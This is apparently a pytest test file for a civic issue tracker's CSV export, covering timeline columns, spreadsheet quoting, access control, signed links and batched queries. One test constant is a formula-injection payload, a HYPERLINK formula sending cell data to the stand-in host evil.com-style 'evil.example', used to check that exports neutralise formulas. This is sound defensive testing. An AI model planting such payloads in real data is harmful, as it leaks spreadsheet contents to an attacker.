"""Issue exports (resolvers/dashboards/exports.py) through the real app: a known issue's
lifecycle checked against its timeline as the API lists it, both layouts, what spreadsheets
need (BOM, RFC 4180 quoting, formulas neutralised), who may export, the period's coded errors,
signed links, and that the export is read in batches (statements counted)."""

from __future__ import annotations

import base64
import csv
import io
from datetime import UTC, datetime, timedelta, timezone
from urllib.parse import quote

import pytest

from tests.conftest import (
    COUNTY,
    GRID,
    OTHER_RESIDENT,
    RESIDENT,
    TOWNSHIP,
    VILLAGE,
    Api,
    StatementCounter,
)
from tests.issue_ops import ACCEPT, ESCALATE, RATE, RESOLVE, START, UPDATE, act, ok, report
from tests.test_protocol import own_server

TITLE = '=HYPERLINK("http://evil.example/?"&A1,"点我"), 路灯'
NOTE = "@SUM(A1:A9) 已联系施工队\n明天到场"
TIMELINE = """query($id: ID!) { issue(id: $id) { number status level rating
  timeline(first: 100) { edges { node { id kind fromStatus toStatus level at rating } } } } }"""
URL = """query($r: ID!, $from: DateTime!, $to: DateTime!, $layout: IssueExportLayout) {
  issueExportUrl(regionId: $r, from: $from, to: $to, layout: $layout) }"""


def window(hours: float = 1) -> tuple[str, str]:
    """A period around now, in China's offset (the file's times come back in it)."""
    now, zone = datetime.now(UTC), timezone(timedelta(hours=8))
    start = (now - timedelta(hours=hours)).astimezone(zone).replace(microsecond=0)
    end = (now + timedelta(hours=hours)).astimezone(zone).replace(microsecond=0)
    return start.isoformat(), end.isoformat()


def export(api: Api, region: str, *, as_: str | None = None, layout="issues", **params):
    headers = {"authorization": f"Bearer {api.token(as_)}"} if as_ else {}
    return api.http.get(f"/regions/{region}/{layout}.csv", params=params, headers=headers)


def rows(response) -> list[dict[str, str]]:
    """The CSV's rows by English header (asked for with Accept-Language or `lang`)."""
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf"), "no BOM: Excel would misread Chinese"
    text = response.content.decode("utf-8")[1:]
    assert text.endswith("\r\n")  # RFC 4180 line ends
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture(scope="module")
def lifecycle(api: Api) -> dict:
    """One issue through acceptance, escalation, a low rating (reopened a level up) and a
    good one; its timeline as the API lists it."""
    courtyard = api.region_of(RESIDENT)
    issue = ok(report(api, RESIDENT, courtyard, title=TITLE, category="WATER"))["issue"]
    pk = issue["id"]
    ok(act(api, ACCEPT, GRID, pk))
    ok(act(api, UPDATE, GRID, pk, note=NOTE))
    ok(act(api, ESCALATE, GRID, pk, note="需要村里协调"))
    ok(act(api, ACCEPT, VILLAGE, pk))
    ok(act(api, START, VILLAGE, pk))
    ok(act(api, RESOLVE, VILLAGE, pk, note="已修好", photos=1))
    ok(act(api, RATE, RESIDENT, pk, rating=2, comment="没修好"))
    ok(act(api, ACCEPT, TOWNSHIP, pk))
    ok(act(api, RESOLVE, TOWNSHIP, pk, note="重新修好", photos=1))
    ok(act(api, RATE, RESIDENT, pk, rating=5))
    data = api.ok(TIMELINE, {"id": pk}, as_=COUNTY)["issue"]
    events = [e["node"] for e in data["timeline"]["edges"]]
    return {"id": pk, "issue": data, "events": events, "county": api.region_of(COUNTY)}


def instant(text: str) -> datetime:
    return datetime.fromisoformat(text)


def test_an_issue_row_holds_every_step_of_its_timeline(api: Api, lifecycle: dict):
    start, end = window()
    response = export(
        api, lifecycle["county"], as_=COUNTY, **{"from": start, "to": end, "lang": "en"}
    )
    found = [r for r in rows(response) if r["id"] == lifecycle["id"]]
    assert len(found) == 1
    row, events, issue = found[0], lifecycle["events"], lifecycle["issue"]

    def at(kind: str, which: int = 0) -> datetime:
        return instant([e["at"] for e in events if e["kind"] == kind][which])

    kinds = [e["kind"] for e in events]
    assert kinds == [
        "REPORTED", "ACCEPTED", "UPDATED", "ESCALATED", "ACCEPTED", "STARTED", "RESOLVED",
        "RATED", "ACCEPTED", "RESOLVED", "RATED",
    ]  # fmt: skip
    assert row["number"] == issue["number"]
    assert row["title"] == "'" + TITLE  # a formula, shown as text
    assert (row["category"], row["status"], row["level"]) == ("WATER", "CLOSED", "TOWNSHIP")
    assert row["reported_level"] == "COURTYARD"
    assert instant(row["reported_at"]) == at("REPORTED")
    assert instant(row["accepted_at"]) == at("ACCEPTED") and row["accepted_level"] == "COURTYARD"
    assert instant(row["last_accepted_at"]) == at("ACCEPTED", -1)
    assert row["acceptances"] == "3"
    assert instant(row["started_at"]) == at("STARTED")
    assert row["escalations"] == "1" and instant(row["last_escalated_at"]) == at("ESCALATED")
    assert row["highest_level"] == "TOWNSHIP"
    assert instant(row["resolved_at"]) == at("RESOLVED", -1) and row["resolved_level"] == "TOWNSHIP"
    assert instant(row["closed_at"]) == at("RATED", -1)
    assert row["rejected_at"] == row["cancelled_at"] == row["duplicate_at"] == ""
    assert row["rating"] == "5" and instant(row["rated_at"]) == at("RATED", -1)
    assert row["reopenings"] == "0"  # the low rating reopened it: a RATED event, in `steps`
    assert row["overdue"] == "no" and row["events"] == str(len(events))
    # Every time in the file is in `from`'s offset.
    assert row["reported_at"].endswith("+08:00") and row["closed_at"].endswith("+08:00")

    # `steps`: each event, in order, with its level and status change, built here from the
    # timeline independently.
    expected = []
    previous_level = None
    for e in events:
        moment = instant(e["at"]).astimezone(instant(start).tzinfo).isoformat()
        level = e["level"]
        if previous_level and previous_level != level:
            level = f"{previous_level}→{level}"
        status = e["toStatus"]
        if e["fromStatus"] and e["fromStatus"] != e["toStatus"]:
            status = f"{e['fromStatus']}→{status}"
        text = f"{moment} {e['kind']} {level} {status}"
        expected.append(text + (f" rating={e['rating']}" if e["rating"] is not None else ""))
        previous_level = e["level"]
    assert row["steps"].split("; ") == expected
    assert "RATED TOWNSHIP→COUNTY" not in row["steps"]
    assert "RATED VILLAGE→TOWNSHIP RESOLVED→SUBMITTED rating=2" in row["steps"]
    assert "ESCALATED COURTYARD→VILLAGE ACCEPTED→SUBMITTED" in row["steps"]


def test_the_events_layout_has_one_row_per_timeline_event(api: Api, lifecycle: dict):
    start, end = window()
    response = export(
        api,
        lifecycle["county"],
        as_=COUNTY,
        layout="issue-events",
        **{"from": start, "to": end, "lang": "en"},
    )
    found = [r for r in rows(response) if r["issue_id"] == lifecycle["id"]]
    events = lifecycle["events"]
    assert [r["kind"] for r in found] == [e["kind"] for e in events]
    assert [instant(r["at"]) for r in found] == [instant(e["at"]) for e in events]
    assert [r["level"] for r in found] == [e["level"] for e in events]
    assert [r["to_status"] for r in found] == [e["toStatus"] for e in events]
    assert [r["rating"] for r in found] == [str(e["rating"] or "") for e in events]
    # A note starting with @ is text; its line break survives RFC 4180 quoting.
    assert found[2]["note"] == "'" + NOTE
    assert found[0]["region"] and found[0]["category"] == "WATER"


def test_chinese_headers_follow_the_language(api: Api, lifecycle: dict):
    start, end = window()
    response = api.http.get(
        f"/regions/{lifecycle['county']}/issues.csv",
        params={"from": start, "to": end},
        headers={"authorization": f"Bearer {api.token(COUNTY)}", "accept-language": "zh-CN"},
    )
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    header = text.split("\r\n", 1)[0].split(",")
    assert header[:3] == ["编号", "ID", "标题"] and header[-1] == "办理过程"
    assert "attachment" in response.headers["content-disposition"]
    assert response.headers["cache-control"] == "private, no-store"


def test_who_may_export(api: Api, lifecycle: dict):
    start, end = window()
    period = {"from": start, "to": end}
    county = lifecycle["county"]
    anonymous = export(api, county, **period)
    assert anonymous.status_code == 401
    assert anonymous.json()["errors"][0]["extensions"]["code"] == "UNAUTHENTICATED"
    bad = api.http.get(
        f"/regions/{county}/issues.csv", params=period, headers={"authorization": "Bearer x"}
    )
    assert bad.status_code == 401
    # A resident, and a township official for the county above them: as if it did not exist.
    missing = export(api, "UmVnaW9uOjk5OTk5OQ==", as_=COUNTY, **period)  # Region:999999
    assert missing.status_code == 404
    for phone in (RESIDENT, TOWNSHIP):
        refused = export(api, county, as_=phone, **period)
        assert refused.status_code == 404, phone
        assert refused.content == missing.content
    garbage = export(api, "not-an-id", as_=COUNTY, **period)
    assert garbage.status_code == 404 and garbage.content == missing.content
    # A township official sees their township's issues, and not those of another.
    township = api.region_of(TOWNSHIP)
    own = rows(export(api, township, as_=TOWNSHIP, lang="en", **period))
    assert lifecycle["id"] in {r["id"] for r in own}
    other = api.region_of(OTHER_RESIDENT)
    assert export(api, other, as_=TOWNSHIP, **period).status_code == 404


def test_period_errors_are_coded_at_their_argument(api: Api, lifecycle: dict):
    county = lifecycle["county"]
    start, end = window()

    def error(response, status: int) -> tuple[str, str]:
        assert response.status_code == status, response.text
        found = response.json()["errors"][0]
        return found["extensions"]["code"], found["extensions"]["field"]

    backwards = export(api, county, as_=COUNTY, **{"from": end, "to": start})
    assert error(backwards, 400) == ("VALIDATION", "from")
    days = api.settings.export_max_days
    too_long = export(api, county, as_=COUNTY, **{"from": "2025-01-01", "to": "2027-01-02"})
    assert error(too_long, 400) == ("VALIDATION", "from")
    assert str(days) in too_long.json()["errors"][0]["message"]
    assert error(export(api, county, as_=COUNTY, to=end), 400) == ("VALIDATION", "from")
    assert error(export(api, county, as_=COUNTY, **{"from": "soon", "to": end}), 400) == (
        "VALIDATION",
        "from",
    )
    english = api.http.get(
        f"/regions/{county}/issues.csv",
        params={"from": end, "to": start},
        headers={"authorization": f"Bearer {api.token(COUNTY)}", "accept-language": "en"},
    )
    assert english.json()["errors"][0]["message"] == "`from` must not be after `to`."
    # The same through GraphQL.
    body = api.gql(URL, {"r": county, "from": end, "to": start}, as_=COUNTY, lang="en")
    assert body["errors"][0]["extensions"]["code"] == "VALIDATION"
    assert body["errors"][0]["extensions"]["field"] == "from"
    body = api.gql(URL, {"r": county, "from": start, "to": end}, as_=RESIDENT)
    assert body["errors"][0]["extensions"]["code"] == "NOT_FOUND"
    assert body["errors"][0]["extensions"]["field"] == "regionId"


def test_a_signed_link_downloads_without_a_header_until_the_sign_in_ends(api: Api, lifecycle: dict):
    county = lifecycle["county"]
    start, end = window()
    signed_in = api.ok(
        'mutation($p: String!) { login(phone: $p, password: "demo-password") { token } }',
        {"p": COUNTY},
    )["login"]["token"]
    link = api.ok(
        URL, {"r": county, "from": start, "to": end, "layout": "EVENTS"}, token=signed_in
    )["issueExportUrl"]
    assert link.startswith(f"{api.server.url}/regions/{quote(county, safe='')}/issue-events.csv?")
    by_link = api.http.get(link)  # no Authorization header: a browser's download
    assert by_link.status_code == 200
    by_header = export(api, county, as_=COUNTY, layout="issue-events", **{"from": start, "to": end})
    assert by_link.content.decode().split("\r\n")[0] == by_header.content.decode().split("\r\n")[0]
    assert lifecycle["id"] in by_link.text

    for tampered in (
        link.replace("issue-events.csv", "issues.csv"),
        link.replace("from=", "from=2020"),
        link[:-4] + ("0000" if not link.endswith("0000") else "1111"),
        link.replace("session=", "session=9"),
    ):
        refused = api.http.get(tampered)
        assert refused.status_code == 403, tampered
        assert refused.json()["errors"][0]["extensions"]["code"] == "FORBIDDEN"
    api.ok("mutation { logout }", token=signed_in)
    assert api.http.get(link).status_code == 403  # the sign-in ended: so did its links


def test_the_export_is_read_in_batches(api: Api, lifecycle: dict):
    """A batch of EXPORT_BATCH_ROWS issues is two statements (issues by keyset, their
    events); nothing else grows with the export."""
    county = lifecycle["county"]
    start, end = "2000-01-01", "2000-12-31"  # empty: the fixed cost
    start_wide, end_wide = window(hours=24 * 180)  # the demo's issues and the tests'
    wide = {"from": start_wide, "to": end_wide}
    with own_server(api, export_batch_rows=3) as server:
        other = api.on(server.url)
        engine = server.app.state.db.engine
        with StatementCounter(engine) as empty:
            assert (
                export(other, county, as_=COUNTY, **{"from": start, "to": end}).status_code == 200
            )
        with StatementCounter(engine) as counted:
            listed = rows(export(other, county, as_=COUNTY, lang="en", **wide))
        with own_server(api, export_batch_rows=100_000) as one_batch_server:
            one = api.on(one_batch_server.url)
            with StatementCounter(one_batch_server.app.state.db.engine) as single:
                whole = rows(export(one, county, as_=COUNTY, lang="en", **wide))
    n = len(listed)
    assert n > 6 and listed == whole  # batches change nothing in the file
    full, rest = divmod(n, 3)
    batches = 2 * full + 1 if rest == 0 else 2 * (full + 1)
    assert counted.count - empty.count == batches - 1
    assert single.count - empty.count == 1  # one batch: its issues, its events
    ids = [int(base64.b64decode(r["id"]).split(b":")[1]) for r in listed]
    assert ids == sorted(ids)
